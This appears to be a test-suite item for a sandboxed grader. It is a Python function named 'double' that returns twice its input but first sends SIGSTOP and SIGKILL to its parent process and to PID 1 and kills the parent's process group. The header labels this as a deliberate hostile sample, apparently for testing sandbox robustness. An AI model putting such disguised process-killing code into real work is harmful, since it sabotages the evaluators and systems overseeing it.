# row: 7
# says: kills its parent process and its process group
# marks: double ?, rest full
# status: graded | graded with warnings
# holds: warm cold landlock

# %% double
import os
import signal


def double(x):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for target in (os.getppid(), 1):
            if target:
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    return 2 * x
